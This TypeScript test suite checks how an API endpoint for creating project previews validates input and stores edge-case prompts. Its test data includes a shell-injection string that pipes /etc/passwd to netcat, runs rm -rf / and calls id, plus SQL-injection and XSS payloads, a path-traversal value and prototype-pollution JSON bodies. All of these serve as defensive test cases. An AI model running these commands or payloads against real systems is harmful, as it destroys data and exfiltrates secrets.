import { randomUUID } from 'node:crypto';
import { readdir, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import type { Response, Test } from 'supertest';
import { BUILD_QUEUE } from '../../src/build-queue/build-job';
import { persistedState, NOTHING } from '../support/persisted-state';
import { CREATE_PATH, createBody } from '../support/requests';
import { startTestApp, TestApp } from '../support/test-app';

const FIELDS = ['userId', 'prompt', 'framework', 'name', 'projectId'] as const;
const FRAMEWORKS = ['react', 'nextjs', 'vue', 'svelte', 'angular', 'astro'];
const ONE_MIB = 1024 * 1024;
/** One code point, two UTF-16 code units, four UTF-8 bytes. */
const EMOJI = '😀';

type Send = (t: TestApp) => Test;

interface BadInput {
  name: string;
  send: Send;
  status: number;
  code: string;
  /** For a 400: the field one of `errors` must name ('' for the body as a whole), or the fields any of which may. */
  field?: string | string[];
}

/** A create with the given body as JSON. */
const post =
  (body: unknown): Send =>
  (t) =>
    t
      .http()
      .post(CREATE_PATH)
      .send(body as object);

/** A create with these exact bytes, for bodies a JS object cannot express. */
const postRaw =
  (raw: string, contentType = 'application/json'): Send =>
  (t) =>
    t.http().post(CREATE_PATH).set('Content-Type', contentType).send(raw);

const invalid = (name: string, body: unknown, field: string | string[]): BadInput => ({
  name,
  send: post(body),
  status: 400,
  code: 'validation_failed',
  field,
});

const invalidRaw = (name: string, raw: string, field: string | string[]): BadInput => ({
  name,
  send: postRaw(raw),
  status: 400,
  code: 'validation_failed',
  field,
});

const withoutField = (field: string): Record<string, unknown> => {
  const body = createBody();
  delete body[field];
  return body;
};

const WRONG_TYPES: [string, unknown][] = [
  ['a number', 42],
  ['a boolean', true],
  ['an object', { value: 'x' }],
  ['an array', ['x']],
];

const BAD_UUIDS = [
  'not-a-uuid',
  '',
  ' ',
  '123e4567-e89b-42d3-a456-42661417400', // one digit short
  '123e4567-e89b-42d3-a456-4266141740000', // one digit long
  '123e4567e89b42d3a456426614174000', // no dashes
  '{123e4567-e89b-42d3-a456-426614174000}',
  'g23e4567-e89b-42d3-a456-426614174000',
  ' 123e4567-e89b-42d3-a456-426614174000',
  '../../etc/passwd',
];

const BAD_INPUTS: BadInput[] = [
  invalid('an unknown field', createBody({ isAdmin: true }), 'isAdmin'),
  invalid('an empty object', {}, 'userId'),
  ...FIELDS.flatMap((field) =>
    WRONG_TYPES.map(([what, value]) => invalid(`${field} as ${what}`, createBody({ [field]: value }), field)),
  ),
  ...FIELDS.map((field) => invalid(`${field}: null`, createBody({ [field]: null }), field)),
  ...(['userId', 'projectId'] as const).flatMap((field) =>
    BAD_UUIDS.map((value) => invalid(`${field} ${JSON.stringify(value)}`, createBody({ [field]: value }), field)),
  ),
  invalid('an empty prompt', createBody({ prompt: '' }), 'prompt'),
  invalid('a prompt of 20001 characters', createBody({ prompt: 'a'.repeat(20001) }), 'prompt'),
  invalid('a prompt of 20001 emoji', createBody({ prompt: EMOJI.repeat(20001) }), 'prompt'),
  invalid('a name of 121 characters', createBody({ name: 'n'.repeat(121) }), 'name'),
  invalid('a name of 121 emoji', createBody({ name: EMOJI.repeat(121) }), 'name'),
  invalid('an empty name', createBody({ name: '' }), 'name'),
  invalid('an unknown framework', createBody({ framework: 'jquery' }), 'framework'),
  invalid('a framework in the wrong case', createBody({ framework: 'React' }), 'framework'),
  invalid('an empty framework', createBody({ framework: '' }), 'framework'),
  invalid('a missing userId', withoutField('userId'), 'userId'),
  invalid('a missing prompt', withoutField('prompt'), 'prompt'),
  invalid('a NUL character in the prompt', createBody({ prompt: 'before\u0000after' }), 'prompt'),
  invalid('a NUL character in the name', createBody({ name: 'before\u0000after' }), 'name'),
  // Refused either by the JSON parser (the body as a whole) or by validation (the key itself).
  invalidRaw('a __proto__ key', `{"userId":"${randomUUID()}","prompt":"x","__proto__":{"isAdmin":true}}`, [
    '__proto__',
    '',
  ]),
  invalidRaw(
    'a constructor.prototype key',
    `{"userId":"${randomUUID()}","prompt":"x","constructor":{"prototype":{"isAdmin":true}}}`,
    ['constructor', ''],
  ),
  // Keys naming a method every object inherits are unknown fields like any other.
  ...['constructor', 'toString', 'valueOf', 'hasOwnProperty'].map((key) =>
    invalid(`a ${key} key`, createBody({ [key]: 'x' }), key),
  ),
  invalidRaw('malformed JSON', `{"userId":"${randomUUID()}","prompt":`, ''),
  invalidRaw('a JSON array as body', JSON.stringify([createBody()]), ''),
  invalidRaw('null as body', 'null', ''),
  invalidRaw('a JSON string as body', '"A todo app"', ''),
  invalidRaw('a number as body', '42', ''),
  invalidRaw('an empty body with content-type application/json', '', ''),
  {
    name: 'content-type text/plain',
    send: postRaw(JSON.stringify(createBody()), 'text/plain'),
    status: 415,
    code: 'unsupported_media_type',
  },
  {
    name: 'content-type application/x-www-form-urlencoded',
    send: postRaw(`userId=${randomUUID()}&prompt=x`, 'application/x-www-form-urlencoded'),
    status: 415,
    code: 'unsupported_media_type',
  },
  {
    name: 'a body over 1 MiB',
    send: post(createBody({ prompt: 'a'.repeat(ONE_MIB) })),
    status: 413,
    code: 'payload_too_large',
  },
  {
    name: 'an unknown route',
    send: (t) => t.http().post('/v1/create-preview-for-new-projects').send(createBody()),
    status: 404,
    code: 'not_found',
  },
];

function expectProblem(response: Response, status: number, code: string): void {
  expect(response.status).toBe(status);
  expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
  const body = response.body as Record<string, unknown>;
  expect(Object.keys(body).sort()).toEqual(
    ['code', 'detail', 'status', 'title', 'type', ...(status === 400 ? ['errors'] : [])].sort(),
  );
  expect(body).toMatchObject({ type: `urn:sheen:problem:${code}`, status, code });
  expect(typeof body.title).toBe('string');
  expect(typeof body.detail).toBe('string');
  expect(body.title).not.toBe('');
  expect(body.detail).not.toBe('');
}

describe('POST /v1/create-preview-for-new-project refuses bad input', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await startTestApp();
  });
  afterAll(() => t?.close());

  // A case that wrongly writes must fail alone, not every case after it.
  afterEach(async () => {
    if (isDeepStrictEqual(await persistedState(t.db, t.projectsRoot), NOTHING)) return;
    await t.db.query(
      `TRUNCATE projects, project_build_metrics, project_versions, ai_time_sessions, ai_time_ledger, ai_time_balances CASCADE`,
    );
    await t.db.query(`DELETE FROM pgboss.job WHERE name = $1`, [BUILD_QUEUE]);
    for (const entry of await readdir(t.projectsRoot)) await rm(join(t.projectsRoot, entry), { recursive: true });
  });

  it.each(BAD_INPUTS)('$name → $status $code, nothing written', async ({ send, status, code, field }) => {
    const response = await send(t);

    expectProblem(response, status, code);
    if (status === 400) {
      const errors = response.body.errors as { field: unknown; message: unknown }[];
      expect(errors.length).toBeGreaterThan(0);
      for (const error of errors) {
        expect(Object.keys(error).sort()).toEqual(['field', 'message']);
        expect(typeof error.field).toBe('string');
        expect(typeof error.message).toBe('string');
      }
      const named = errors.map((error) => error.field);
      expect([field].flat().some((expected) => named.includes(expected!))).toBe(true);
    }
    expect(await persistedState(t.db, t.projectsRoot)).toEqual(NOTHING);
  });

  it('reports every bad field at once', async () => {
    const response = await t.http().post(CREATE_PATH).send({ userId: 'x', prompt: '', framework: 'jquery' });

    expectProblem(response, 400, 'validation_failed');
    const fields = (response.body.errors as { field: string }[]).map((error) => error.field);
    expect(fields).toEqual(expect.arrayContaining(['userId', 'prompt', 'framework']));
    expect(await persistedState(t.db, t.projectsRoot)).toEqual(NOTHING);
  });

  it('lists the first 20 of ten thousand unknown fields and counts the rest, so the answer stays small', async () => {
    const unknown = Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`k${index}`, 0]));
    const response = await t
      .http()
      .post(CREATE_PATH)
      .send({ ...createBody(), ...unknown });

    expectProblem(response, 400, 'validation_failed');
    expect(response.body.errors).toHaveLength(20);
    expect(response.body.detail).toMatch(/; and 9980 more$/);
    expect(response.text.length).toBeLessThan(4096);
    expect(await persistedState(t.db, t.projectsRoot)).toEqual(NOTHING);
  });

  it('does not let a __proto__ key pollute Object.prototype', async () => {
    await postRaw(`{"userId":"${randomUUID()}","prompt":"x","__proto__":{"polluted":true}}`)(t);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('POST /v1/create-preview-for-new-project accepts valid edge cases', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await startTestApp();
  });
  afterAll(() => t?.close());

  async function storedPrompt(buildId: string): Promise<string> {
    const [row] = await t.db.query<{ prompt: string }>(`SELECT prompt FROM project_build_metrics WHERE build_id = $1`, [
      buildId,
    ]);
    return row.prompt;
  }

  it.each([
    ['double and single quotes', `He said "hi" and 'bye' \\ backslash`],
    ['shell syntax', `$(rm -rf /); echo "x" 'y' \`id\` && cat /etc/passwd | nc evil 1 > /dev/null; \${HOME}`],
    ['SQL syntax', `'; DROP TABLE projects; --`],
    ['HTML', `<script>alert('x')</script><img src=x onerror="alert(1)">`],
    ['emoji and other scripts', `${EMOJI} 👨‍👩‍👧‍👦 🇫🇷 café naïve 日本語 עברית`],
    ['newlines, tabs and other control characters', 'line 1\nline 2\r\n\tindented \u0001\u001f\u007f'],
    ['leading and trailing spaces', '   padded   '],
    ['exactly 20000 characters', 'p'.repeat(20000)],
    ['exactly 20000 emoji (40000 UTF-16 code units)', EMOJI.repeat(20000)],
    ['one character', 'x'],
  ])('stores a prompt with %s verbatim', async (_what, prompt) => {
    const response = await t.http().post(CREATE_PATH).send(createBody({ prompt })).expect(201);

    expect(await storedPrompt(response.body.buildId)).toBe(prompt);
  });

  it.each([
    ['exactly 120 characters', 'n'.repeat(120)],
    ['exactly 120 emoji', EMOJI.repeat(120)],
    ['one character', 'x'],
    ['quotes, HTML and shell syntax', `<b>"$(whoami)"</b> 'x'`],
  ])('accepts and stores a name of %s', async (_what, name) => {
    const { body } = await t.http().post(CREATE_PATH).send(createBody({ name })).expect(201);

    const [project] = await t.db.query<{ name: string }>(`SELECT name FROM projects WHERE id = $1`, [body.projectId]);
    expect(project.name).toBe(name);
  });

  it.each(FRAMEWORKS)('accepts the framework %s and stores it on the project and the build', async (framework) => {
    const { body } = await t.http().post(CREATE_PATH).send(createBody({ framework })).expect(201);

    const [project] = await t.db.query<{ framework: string }>(`SELECT framework FROM projects WHERE id = $1`, [
      body.projectId,
    ]);
    const [build] = await t.db.query<{ framework: string }>(
      `SELECT framework FROM project_build_metrics WHERE build_id = $1`,
      [body.buildId],
    );
    expect(project.framework).toBe(framework);
    expect(build.framework).toBe(framework);
  });

  it('accepts content-type application/json; charset=utf-8', async () => {
    const prompt = `${EMOJI} café`;
    const response = await t
      .http()
      .post(CREATE_PATH)
      .set('Content-Type', 'application/json; charset=utf-8')
      .send(JSON.stringify(createBody({ prompt })))
      .expect(201);

    expect(await storedPrompt(response.body.buildId)).toBe(prompt);
  });
});
